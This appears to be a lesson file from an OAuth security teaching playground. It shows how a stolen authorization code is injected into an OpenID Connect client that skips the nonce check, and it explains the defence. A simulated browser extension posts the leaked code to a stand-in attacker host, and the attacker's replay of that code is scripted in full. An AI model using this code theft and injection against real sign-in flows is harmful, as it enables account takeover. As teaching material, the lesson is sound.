"""OpenID Connect without a nonce check: a code injected into the attacker's
session signs her in as the victim, when the nonce is what binds the code to
the browser (RFC 9700 4.5.3.2, OIDC Core 3.1.3.7)."""

from urllib.parse import parse_qsl, urlencode, urlsplit

from playground import Lesson

SCOPE = "openid profile basic photos.read"
# The browser extension "Coupon Finder", as in lesson 13.
EXTENSION = "chrome-extension://ijfhehfecgjaneaiecioneilhpnlnkdl"
NONCE_REFUSAL = "The ID token's nonce is not the one this browser's request sent."

lesson = Lesson(
    "OpenID Connect: an ID token whose nonce nobody checks",
    level="advanced",
    kind="attack",
    weakness="client.skip_nonce_check",
    summary=(
        "PhotoPrint protects its OpenID Connect sign-ins with the nonce "
        "instead of PKCE, as RFC 9700 2.1.1 allows a confidential client. "
        "Alice's code leaks; Mallory sends it to PhotoPrint's callback with "
        "the state of her own sign-in. PhotoPrint redeems it, and the ID "
        "token carries Alice's nonce, not the one of Mallory's session. A "
        "client that does not compare them signs Mallory in as Alice."
    ),
    defence="""
**Check the ID token's `nonce` against the one this browser's session sent,
and use no token before that check succeeds.**

- OIDC Core 3.1.3.7 step 11: "If a nonce value was sent in the
  Authentication Request, a nonce Claim MUST be present and its value
  checked to verify that it is the same value as the one that was sent in
  the Authentication Request." Here PhotoPrint refuses with **400** "Sign-in
  refused", "The ID token's nonce is not the one this browser's request
  sent.", and calls no API with the tokens.
- RFC 9700 4.5.3.2: a client relying on the nonce against code injection
  "MUST validate the nonce in the ID Token obtained from the token
  endpoint" and "MUST ensure that, unless and until that check succeeds,
  all tokens (ID Tokens and the access token) are disregarded and not used
  for any other purpose".
- The nonce catches the injection only *after* the code is redeemed: the
  code is spent, and Alice's own sign-in fails once (the server revokes the
  tokens issued from it). PKCE (RFC 9700 2.1.1, RECOMMENDED for confidential
  clients too) refuses the injected code at the token endpoint, before it
  is spent: lesson 13. Use both.
- The nonce must be unguessable and bound to the browser's session (OIDC
  Core 15.5.2), like `state`.
""",
)


def extension_reports(browser, url, attacker_url):
    """Coupon Finder posts the address of the redirect home before the
    browser follows it (lesson 13)."""
    params = dict(parse_qsl(urlsplit(url).query))
    browser.fetch(
        f"{attacker_url}/report",
        method="POST",
        data={"url": url, **params},
        mode="no-cors",
        origin=EXTENSION,
    )


@lesson.step("PhotoPrint relies on the nonce; Alice signs in")
def alice_signs_in(run):
    """
    Two settings of this lesson, both allowed by RFC 9700 (they are not the
    weakness):

    - PhotoPrint binds its OpenID Connect sign-ins to the browser with the
      **nonce** instead of PKCE (RFC 9700 2.1.1: "confidential OpenID Connect
      clients MAY use the nonce parameter and the respective Claim in the ID
      Token instead").
    - The authorization server requires PKCE of public clients only (RFC
      9700 2.1.1); the playground's default requires it of every client.

    Alice signs in to PhotoPrint with OpenID Connect and approves. Look at
    PhotoPrint's request: a `state`, a `nonce`, no `code_challenge`. The
    server answers 302 to PhotoPrint's callback with a code; the browser has
    not followed it yet.
    """
    run.world.deployment.as_settings.require_pkce_for_all_clients = False
    run.web_client.configure(code_binding="nonce")
    run.browser.open(f"{run.client_url}/login?{urlencode({'scope': SCOPE})}")
    sent = run.browser.redirect_params
    run.check(
        "PhotoPrint's request carries a state and a nonce, and no code_challenge",
        bool(sent.get("state"))
        and bool(sent.get("nonce"))
        and "code_challenge" not in sent,
    )
    run.browser.follow_redirect()
    run.browser.sign_in("alice", "wonderland")
    run.browser.follow_redirect()
    run.browser.approve()
    run.alice_callback = run.browser.redirect_location or ""
    run.alices_code = run.browser.redirect_params.get("code", "")
    run.check(
        "the server answers 302 to PhotoPrint's /callback with a code",
        run.alice_callback.startswith(f"{run.client_url}/callback?code="),
    )


@lesson.step("A browser extension reports the redirect to Mallory")
def extension_leaks_the_code(run):
    """
    As in lesson 13, *Coupon Finder* posts the address of the redirect to
    `attacker.test/report` before the browser follows it. Mallory has
    Alice's **code**. The nonce is not in that address: it went in the
    authorization request and will come back inside the ID token.
    """
    extension_reports(run.browser, run.alice_callback, run.attacker.url)
    run.check(
        "Mallory has Alice's code", run.attacker.loot("code") == [run.alices_code]
    )


@lesson.step("Mallory sends Alice's code with her own state")
def mallory_injects(run):
    """
    Mallory starts her own OpenID Connect sign-in at PhotoPrint: her session
    gets a `state` and a `nonce` of its own. She opens PhotoPrint's callback
    with **Alice's code** and **her state**. The state check passes;
    PhotoPrint redeems the code with its secret: **200**, with an ID token
    whose `nonce` is the one of **Alice's** request (look at the JWT panel),
    not of Mallory's session.

    - **Weakness on** (`client.skip_nonce_check`): PhotoPrint does not
      compare the nonces. Mallory's page: "Hello Alice Liddell from Oxford!",
      Alice's photos, and Alice's PhotoPrint account with her delivery
      address.
    - **Defended**: **400** "Sign-in refused": "The ID token's nonce is not
      the one this browser's request sent." PhotoPrint throws the tokens away
      unused: no request to the photos API follows (RFC 9700 4.5.3.2).
    """
    mallory = run.attacker.browser
    mallory.open(f"{run.client_url}/login?{urlencode({'scope': SCOPE})}")
    state = mallory.redirect_params.get("state", "")
    mallorys_nonce = mallory.redirect_params.get("nonce", "")
    forged = {"code": run.alices_code, "state": state, "iss": run.issuer}
    mallory.open(f"{run.client_url}/callback?{urlencode(forged)}")
    token_requests = [e for e in run.exchanges if e.label == "POST /token"]
    answer = token_requests[0].response if token_requests else None
    run.check(
        "PhotoPrint redeemed Alice's code for Mallory's session: 200",
        answer is not None and answer.status == 200,
    )
    id_token = run.web_client.oauth.tokens.get("id_token", "")
    claims = run.show_jwt(id_token, "the ID token PhotoPrint got").claims
    run.check(
        "the ID token is Alice's, with a nonce that is not Mallory's",
        claims.get("sub") == "u-1001" and claims.get("nonce") != mallorys_nonce,
    )
    api_calls = [e for e in run.exchanges if e.request.host == "api.photos.test"]
    if run.weakness_on:
        run.check(
            'Mallory\'s page says "Hello Alice Liddell from Oxford!"',
            mallory.status == 200
            and "Hello Alice Liddell from Oxford!" in mallory.page.text,
        )
        run.check(
            "and shows Alice's PhotoPrint account",
            "Delivery address: 7 Rabbit Hole Lane, Oxford" in mallory.page.text,
        )
    else:
        run.check(
            f'PhotoPrint refuses (400): "{NONCE_REFUSAL}"',
            mallory.status == 400 and NONCE_REFUSAL in mallory.page.text,
        )
        run.check("and calls no API with the tokens", api_calls == [])


@lesson.step("Alice's browser arrives second")
def alice_arrives(run):
    """
    Alice's browser follows the redirect of step 1. Both runs: the code was
    redeemed in step 3, for Mallory's session, so the server answers
    PhotoPrint **400** `invalid_grant`, "The code was already used; the
    tokens issued from it are revoked.", and Alice sees "Sign-in failed".

    - **Weakness on**: the revoked tokens are the ones in Mallory's session;
      what she saw is seen, and her access token, a JWT, works at the API
      until it expires.
    - **Defended**: the revoked tokens are the ones PhotoPrint refused to
      use and never kept in any session. The nonce stops the injection, but
      only after the code is spent; Alice signs in again. PKCE (lesson 13)
      refuses the injected code before it is spent.
    """
    run.browser.follow_redirect()
    run.check(
        'Alice sees "Sign-in failed" (400)',
        run.browser.status == 400 and "Sign-in failed" in run.browser.page.text,
    )
    reused = run.events_named("authorization_code.reused")
    run.check(
        "the server logged authorization_code.reused and revoked both tokens",
        len(reused) == 1
        and reused[0].detail
        == "1 access token and 1 refresh token issued from this code revoked",
    )
    account = run.web_client.account_for_browser(run.attacker.browser)
    if run.weakness_on:
        run.check(
            "Mallory's PhotoPrint session is in Alice's account",
            account is not None and account.key == (run.issuer, "u-1001"),
        )
    else:
        run.check("Mallory's PhotoPrint session is in no account", account is None)
